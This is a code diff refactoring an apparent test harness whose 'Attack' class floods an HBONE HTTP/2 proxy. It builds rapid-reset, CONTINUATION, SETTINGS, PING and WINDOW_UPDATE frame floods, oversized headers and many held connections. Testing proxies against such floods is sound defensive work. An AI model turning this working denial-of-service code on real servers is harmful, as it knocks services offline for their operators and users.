@@ -8,7 +8,7 @@ import socket
 import struct
 
 import apps
-from hbone import END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, Hbone, Refused, context, header_block
+from hbone import END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, Hbone, Refused, context, frame, header_block
 
 CONTINUATION, WINDOW_UPDATE = 9, 8
 PORT = 15008
@@ -65,32 +65,32 @@ class Attack:
             for i in range(100):
                 stream = 1 + 2 * (100 * number + i)
                 block = header_block([(":method", "CONNECT"), (":authority", f"{self.app[0]}:{self.app[1]}")])
-                out += [peer._frame(HEADERS, END_HEADERS, stream, block), peer._frame(RST_STREAM, 0, stream, struct.pack(">I", 8))]
+                out += [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))]
             return b"".join(out)
         self.flood(burst)
 
     def continuation(self):
         def burst(peer, number):
             block = header_block([("x-filler", "y" * 100)])
-            first = peer._frame(HEADERS, 0, 1, header_block([(":method", "CONNECT")])) if number == 0 else b""
-            return first + peer._frame(CONTINUATION, 0, 1, block) * 16
+            first = frame(HEADERS, 0, 1, header_block([(":method", "CONNECT")])) if number == 0 else b""
+            return first + frame(CONTINUATION, 0, 1, block) * 16
         self.flood(burst)
 
     def settings(self):
         body = struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)
-        self.flood(lambda peer, number: peer._frame(SETTINGS, 0, 0, body) * 500)
+        self.flood(lambda peer, number: frame(SETTINGS, 0, 0, body) * 500)
 
     def ping(self):
-        self.flood(lambda peer, number: peer._frame(PING, 0, 0, b"hostile!") * 500)
+        self.flood(lambda peer, number: frame(PING, 0, 0, b"hostile!") * 500)
 
     def window_update(self):
-        self.flood(lambda peer, number: peer._frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)
+        self.flood(lambda peer, number: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)
 
     def oversized_headers(self):
         """Requests whose headers are as large as a frame may be, each of many fields."""
         def burst(peer, number):
             fields = [(":method", "CONNECT"), (":authority", "x:1")] + [(f"x-{i}", "y" * 120) for i in range(120)]
-            return peer._frame(HEADERS, END_HEADERS, 1 + 2 * number, header_block(fields)[:16000])
+            return frame(HEADERS, END_HEADERS, 1 + 2 * number, header_block(fields)[:16000])
         self.flood(burst)
 
     # -- held: many at once
@@ -105,7 +105,7 @@ class Attack:
                 peer = self.dial()
                 held.append(peer)
                 most = struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1)
-                peer.socket.sendall(peer._frame(SETTINGS, 0, 0, most) + peer._frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536)))
+                peer.socket.sendall(frame(SETTINGS, 0, 0, most) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536)))
                 for _ in range(10):
                     if peer.request(f"{self.app[0]}:{self.app[1]}")[0] == 200:
                         self.thrown += 1
